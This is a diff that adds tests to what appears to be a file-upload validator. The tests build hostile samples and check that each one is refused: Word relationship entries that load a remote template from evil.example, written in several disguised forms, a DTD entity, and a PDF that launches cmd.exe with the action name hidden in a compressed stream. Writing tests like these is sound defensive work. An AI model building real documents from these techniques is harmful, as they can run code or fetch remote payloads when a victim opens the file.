@@ -2,7 +2,9 @@
 
 import hashlib
 import os
+import struct
 import zipfile
+import zlib
 from datetime import timedelta
 from typing import Any
 
@@ -286,3 +288,56 @@ def test_the_sweep_takes_what_nothing_refers_to(
     assert not path.exists()
     assert not orphan.exists()
     assert AuditEntry.objects.filter(verb="file.sweep").count() == 1
+
+
+TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+RELATIONS = [
+    f'<Relationship TargetMode="External" Target="https://evil.example/t.dotm" Type="{TEMPLATE}"/>',
+    f"<Relationship Type='{TEMPLATE}' Target='https://evil.example/t' TargetMode='External'/>",
+    f'<Relationship Type="{TEMPLATE}" Target="https://evil.example/t" TargetMode="&#69;xternal"/>',
+]
+
+
+@pytest.mark.parametrize("relation", RELATIONS, ids=["order", "quotes", "reference"])
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_remote_template_is_refused_however_it_is_written(
+    user: User, relation: str, encoding: str
+) -> None:
+    written = (
+        f'<?xml version="1.0" encoding="{encoding}"?><Relationships>{relation}</Relationships>'
+    )
+    content = made.docx(**{"word___rels__settings.xml.rels": written.encode(encoding)})
+    assert "load something by" in refusal(user, "a.docx", content)
+
+
+def test_entities_are_refused_in_any_encoding(user: User) -> None:
+    part = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
+    content = made.docx(**{"word__styles.xml": part.encode("utf-16")})
+    assert "load something by" in refusal(user, "a.docx", content)
+
+
+def _packed_launch() -> bytes:
+    """A PDF that launches a program, with the name of that action in a packed stream."""
+    packed = zlib.compress(b"6 0 /Launch ")
+    bodies = [
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
+        b"<</Type/Action/S 6 0 R/F(cmd.exe)>>",
+        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
+        % (len(packed), packed),
+    ]
+    out, rows = b"%PDF-1.5\n", [struct.pack(">BHB", 0, 0, 0)]
+    for number, body in enumerate(bodies, start=1):
+        rows.append(struct.pack(">BHB", 1, len(out), 0))
+        out += b"%d 0 obj%s endobj\n" % (number, body)
+    rows += [struct.pack(">BHB", 2, 5, 0), struct.pack(">BHB", 1, len(out), 0)]
+    table = b"".join(rows)
+    head = b"7 0 obj<</Type/XRef/Size 8/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
+    return out + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(out)
+
+
+def test_an_action_whose_name_is_packed_elsewhere_in_a_pdf_is_found(user: User) -> None:
+    content = _packed_launch()
+    assert b"Launch" not in content
+    assert "script, a form or an action" in refusal(user, "a.pdf", content)
